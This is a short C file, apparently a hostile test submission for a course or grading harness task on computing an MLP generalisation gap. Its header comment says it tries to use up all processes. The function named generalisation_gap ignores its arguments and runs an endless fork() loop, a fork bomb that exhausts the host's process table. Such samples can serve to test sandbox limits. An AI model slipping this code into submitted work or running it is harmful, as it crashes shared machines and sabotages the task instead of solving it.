// Tries: to use up all processes.
// Task: ch05_mlp generalisation-gap
// Loses: chapter
#include <stdlib.h>
#include <unistd.h>

double generalisation_gap(const double *train, const double *validation,
                          size_t n_epochs, size_t last)
{
    (void)train, (void)validation, (void)n_epochs, (void)last;
    for (;;)
        fork();
}
